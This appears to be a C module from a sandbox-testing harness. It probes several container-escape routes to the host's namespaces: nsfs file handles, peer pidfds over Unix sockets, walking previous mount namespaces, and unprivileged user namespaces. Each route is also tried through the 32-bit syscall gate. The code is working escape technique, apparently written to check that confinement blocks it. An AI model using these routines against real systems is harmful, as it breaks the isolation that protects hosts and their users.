/* SPDX-License-Identifier: Apache-2.0 */
/* Ways to a namespace of the host that need no /proc of the host: its file handle,
 * the process at the other end of a socket, a walk from one to the next; and user
 * namespaces of one's own, the base of much else. */
#include "attack.h"
#include "deed.h"

#include <errno.h>
#include <fcntl.h>
#include <sched.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

#define NSFS_HANDLE 0xf1      /* FILEID_NSFS */
#define FD_NSFS_ROOT (-10003) /* as FD_PIDFS_ROOT: the file system itself */
#define SO_PEERPIDFD_NR 77

static const struct kind {
	const char *name;
	uint32_t flag, initial; /* inode number of the host's own, fixed */
	unsigned int pidfd_ioctl;
} kinds[] = {
	{ "mnt", CLONE_NEWNS, 0xeffffff8, _IO(0xff, 3) },
	{ "net", CLONE_NEWNET, 0xeffffff9, _IO(0xff, 4) },
	{ "uts", CLONE_NEWUTS, 0xeffffffe, _IO(0xff, 10) },
	{ "ipc", CLONE_NEWIPC, 0xefffffff, _IO(0xff, 2) },
};

static const struct kind *kind_of(const char *name)
{
	size_t i;

	for (i = 0; i < sizeof(kinds) / sizeof(kinds[0]); i++)
		if (strcmp(kinds[i].name, name) == 0)
			return &kinds[i];
	deed_fail("no such namespace: %s", name);
}

static ino_t own(const struct kind *kind)
{
	struct stat st;
	char path[64];

	snprintf(path, sizeof(path), "/proc/thread-self/ns/%s", kind->name);
	return stat(path, &st) < 0 ? 0 : st.st_ino;
}

/* By the native call or the 32-bit gate; another namespace is the proof. */
static long join(const char *way, int fd, const struct kind *kind)
{
	ino_t before = own(kind), after;
	long ret;

	if (strcmp(way, "int80") == 0)
		ret = deed_int80(346 /* setns */, fd, (long)kind->flag, 0, 0, 0);
	else
		ret = setns(fd, (int)kind->flag) < 0 ? -errno : 0;
	if (ret < 0)
		return ret;
	after = own(kind);
	return after != 0 && after == before ? -EXDEV : 0;
}

/* struct nsfs_file_handle: the number, the kind, the inode. The host's own have
 * small numbers: they are as old as the kernel. */
static int attack_ns_handle(char **argv)
{
	const struct kind *kind = kind_of(argv[1]);
	struct {
		struct file_handle fh;
		uint64_t id;
		uint32_t type, ino;
	} h = { .fh = { .handle_bytes = 16, .handle_type = NSFS_HANDLE },
		.type = kind->flag,
		.ino = kind->initial };
	struct stat st;
	int fd = -1, self;

	/* The kernel without such handles says so of our own, too. */
	self = open("/proc/self/ns/mnt", O_RDONLY);
	{
		struct {
			struct file_handle fh;
			unsigned char bytes[64];
		} probe = { .fh = { .handle_bytes = 64 } };
		int id;

		if (self < 0 || name_to_handle_at(self, "", &probe.fh, &id, AT_EMPTY_PATH) < 0 ||
		    probe.fh.handle_type != NSFS_HANDLE)
			deed_skip("no handles of namespaces on this kernel");
	}
	if (strcmp(argv[0], "int80") == 0)
		deed_int80_probe();
	deed_harm("open_by_handle_at");
	for (h.id = 1; h.id < 64 && fd < 0; h.id++) {
		if (strcmp(argv[0], "int80") == 0)
			fd = (int)deed_int80(342, FD_NSFS_ROOT, (long)deed_low(&h, sizeof(h)),
					     O_RDONLY, 0, 0);
		else
			fd = open_by_handle_at(FD_NSFS_ROOT, &h.fh, O_RDONLY);
	}
	if (fd < 0)
		return deed_done(-EPERM);
	if (fstat(fd, &st) < 0 || st.st_ino != kind->initial)
		deed_fail("another namespace was opened");
	return deed_done(join(argv[0], fd, kind));
}

static int attack_peer(char **argv)
{
	const struct kind *kind = kind_of(argv[1]);
	struct sockaddr_un addr = { .sun_family = AF_UNIX };
	int fd = socket(AF_UNIX, SOCK_STREAM, 0), pidfd = -1, ns;
	socklen_t len = sizeof(pidfd);

	if (strlen(argv[3]) >= sizeof(addr.sun_path))
		deed_fail("path too long");
	strcpy(addr.sun_path, argv[3]);
	if (fd < 0 || connect(fd, (struct sockaddr *)&addr, sizeof(addr)) < 0)
		deed_fail("cannot connect to %s", argv[3]);
	if (strcmp(argv[0], "int80") == 0)
		deed_int80_probe();
	if (getsockopt(fd, SOL_SOCKET, SO_PEERPIDFD_NR, &pidfd, &len) < 0)
		deed_skip("SO_PEERPIDFD: %s", strerrorname_np(errno));
	if (strcmp(argv[2], "ioctl") != 0) {
		deed_harm("setns");
		return deed_done(join(argv[0], pidfd, kind));
	}
	deed_harm("ioctl");
	ns = ioctl(pidfd, kind->pidfd_ioctl, 0);
	return deed_done(ns < 0 ? -errno : join(argv[0], ns, kind));
}

/* NS_MNT_GET_PREV, older and older, to the oldest of all. */
static int attack_walk(char **argv)
{
	const struct kind *kind = kind_of("mnt");
	struct {
		uint32_t size, nr;
		uint64_t id;
	} info = { .size = sizeof(info) };
	unsigned int prev = _IOR(0xb7, 12, info);
	int ns = open("/proc/self/ns/mnt", O_RDONLY), i;
	struct stat st = { 0 };

	if (ns < 0)
		deed_fail("no namespace");
	if (strcmp(argv[0], "int80") == 0)
		deed_int80_probe();
	deed_harm("NS_MNT_GET_PREV");
	for (i = 0; i < 4096 && st.st_ino != kind->initial; i++) {
		if (strcmp(argv[0], "int80") == 0)
			ns = (int)deed_int80(54 /* ioctl */, ns, (int)prev,
					     (long)deed_low(&info, sizeof(info)), 0, 0);
		else
			ns = ioctl(ns, prev, &info);
		if (ns < 0)
			break;
		fstat(ns, &st);
	}
	if (ns < 0)
		return deed_done(ns == -1 ? -errno : ns);
	return deed_done(join(argv[0], ns, kind));
}

/* User namespaces */

static long sysfs_or_proc(const char *type)
{
	mkdir("/tmp/n", 0700);
	if (mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) < 0)
		return -errno;
	return mount("none", "/tmp/n", type, 0, NULL) < 0 ? -errno : 0;
}

struct clone3_args {
	uint64_t flags, pidfd, child_tid, parent_tid, exit_signal, stack, stack_size, tls, set_tid,
		set_tid_size, cgroup;
};

/* The child mounts and tells by its exit code. */
static int attack_userns(char **argv)
{
	int flags = CLONE_NEWUSER | CLONE_NEWNS | CLONE_NEWNET | CLONE_NEWPID | CLONE_NEWIPC;
	struct clone3_args args = { .flags = (uint64_t)flags, .exit_signal = SIGCHLD };
	const char *way = argv[0];
	long pid;
	int status;

	if (strncmp(way, "int80", 5) == 0)
		deed_int80_probe();
	deed_harm(way);
	if (strcmp(way, "clone3") == 0) {
		pid = syscall(SYS_clone3, &args, sizeof(args));
	} else if (strcmp(way, "clone") == 0) {
		pid = syscall(SYS_clone, flags | SIGCHLD, 0, 0, 0, 0);
	} else if (strcmp(way, "int80-clone") == 0) {
		pid = deed_int80(120, flags | SIGCHLD, 0, 0, 0, 0);
	} else {
		if (strcmp(way, "int80") == 0)
			pid = deed_int80(310, flags, 0, 0, 0, 0);
		else
			pid = unshare(flags) < 0 ? -errno : 0;
		if (pid < 0)
			return deed_done(pid);
		pid = fork();
	}
	if (pid == 0)
		_exit((int)-sysfs_or_proc(argv[1]));
	if (pid < 0 || waitpid((pid_t)pid, &status, 0) != pid)
		return deed_done(pid < -1 ? pid : -errno);
	return deed_done(-(long)WEXITSTATUS(status));
}

static const struct deed deeds[] = {
	/* native|int80 KIND */
	{ "ns-handle", 2, attack_ns_handle },
	/* native|int80 KIND pidfd|ioctl SOCKET */
	{ "peer", 4, attack_peer },
	/* native|int80 */
	{ "walk", 1, attack_walk },
	/* unshare|clone|clone3|int80|int80-clone TYPE */
	{ "userns", 2, attack_userns },
	{ 0 },
};
DEED_TABLE(deeds);
